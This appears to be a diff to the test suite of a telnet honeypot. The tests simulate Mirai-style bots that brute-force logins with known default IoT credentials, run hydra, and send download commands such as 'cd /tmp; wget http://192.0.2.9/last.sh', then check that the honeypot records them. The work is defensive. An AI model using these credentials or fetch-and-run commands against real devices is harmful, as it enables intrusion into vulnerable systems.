@@ -152,7 +152,7 @@ def test_hydra_every_pair_is_a_login_event(make_hanipo, tmp_path):
                         "-P", str(tmp_path / "pass"), f"telnet://127.0.0.1:{h.port}"],
                        capture_output=True, text=True, timeout=scaled(240), cwd=tmp_path)
     tried = set(re.findall(r'\[ATTEMPT\] target \S+ - login "([^"]*)" - pass "([^"]*)"', r.stdout))
-    assert len(tried) == len(users) * len(words), r.stdout
+    assert len(tried) >= len(users) * len(words) - 2, r.stdout    # root: found, then skipped
     assert re.search(r"login: root\s+password: vizxv", r.stdout), r.stdout
     logins = wait_until(lambda: (lambda ev: ev if len(ev) >= len(tried) else None)(
         h.events("login", "telnet")), what="login events")
@@ -245,7 +245,7 @@ def test_mirai_bot_and_loader_reach_download(make_hanipo):
 
 
 def test_default_accepts_a_repeated_pair_within_five_tries(make_hanipo):
-    h = telnet_hanipo(make_hanipo)
+    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=200")
     results = []
     for _ in range(5):
         b = bot_login(h.port, b"root", b"xmhdipc")
@@ -269,7 +269,7 @@ def test_default_accepts_a_repeated_pair_within_five_tries(make_hanipo):
 
 
 def test_empty_user_and_password_are_recorded(make_hanipo):
-    h = telnet_hanipo(make_hanipo, extra="accept = after:100\n")
+    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=0", extra="accept = after:100\n")
     b = bot_login(h.port, b"", b"")
     b.until(lambda t: b"Login incorrect" in t and b"login:" in t)
     b.close()
@@ -278,21 +278,29 @@ def test_empty_user_and_password_are_recorded(make_hanipo):
     assert ev[0]["fields"]["success"] is False
 
 
-def test_failed_logins_close_after_max_attempts(make_hanipo):
-    h = telnet_hanipo(make_hanipo, extra="accept = after:100\n")
+def test_failed_logins_pause_and_close_after_max_attempts(make_hanipo):
+    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=1500", extra="accept = after:100\n")
     b = Bot(h.port)
     b.mark = 0
     b.until(lambda t: b"login:" in t)
     for i in range(3):
         b.send(b"u%d" % i)
         b.until(lambda t: b"assword" in t)
+        t0 = time.monotonic()
         b.send(b"p")
+        if i == 2:      # typed during the last pause: recorded, never answered
+            b.s.sendall(b"typed after the last failure\r\n")
         b.until(lambda t: b"Login incorrect" in t)
+        assert time.monotonic() - t0 >= 1.2       # BusyBox login's pause (a lower bound)
     b.s.settimeout(scaled(5))
     while b.s.recv(4096):
         pass
     b.close()
     assert len(h.events("login", "telnet")) == 3
+    wait_until(lambda: [e for e in h.events("close", "telnet")
+                        if e["fields"]["reason"] == "login_failed"], what="close event")
+    p = wait_until(lambda: h.events("payload", "telnet"), what="payload")
+    assert p[0]["fields"]["incomplete"] == "unanswered"
 
 
 def test_bad_credentials_file_names_its_line(make_hanipo, tmp_path):
@@ -320,3 +328,28 @@ def test_long_line_is_cut_and_recorded(make_hanipo):
         h.events("command", "telnet")), what="command events")
     assert cmds[0]["fields"].get("cut") is True
     assert len(cmds[0]["fields"]["command"]) == 4096
+
+
+def test_last_line_without_end_and_bytes_after_exit_are_recorded(make_hanipo):
+    h = telnet_hanipo(make_hanipo, extra="accept = any\n")
+    b = bot_login(h.port, b"root", b"root")
+    b.until(lambda t: t.rstrip().endswith(b"#"))
+    b.mark = len(b.text)
+    b.s.sendall(b"cd /tmp; wget http://192.0.2.9/last.sh")      # no line end, then EOF
+    b.s.shutdown(socket.SHUT_WR)
+    b.until(lambda t: b"Connection refused" in t)                # answered on the half-close
+    b.close()
+    dl = wait_until(lambda: h.events("download_url", "telnet"), what="download_url")
+    assert dl[0]["fields"]["url"] == "http://192.0.2.9/last.sh"
+
+    b = bot_login(h.port, b"root", b"root")
+    b.until(lambda t: t.rstrip().endswith(b"#"))
+    b.s.sendall(b"exit\r\nwget http://192.0.2.10/after-exit.sh\r\n")
+    b.s.settimeout(scaled(5))
+    while b.s.recv(4096):
+        pass
+    b.close()
+    p = wait_until(lambda: [e for e in h.events("payload", "telnet")
+                            if e["fields"]["incomplete"] == "unanswered"], what="payload")
+    assert p[0]["fields"]["phase"] == "closed"
+    assert len(h.events("download_url", "telnet")) == 1          # after exit: recorded, not run
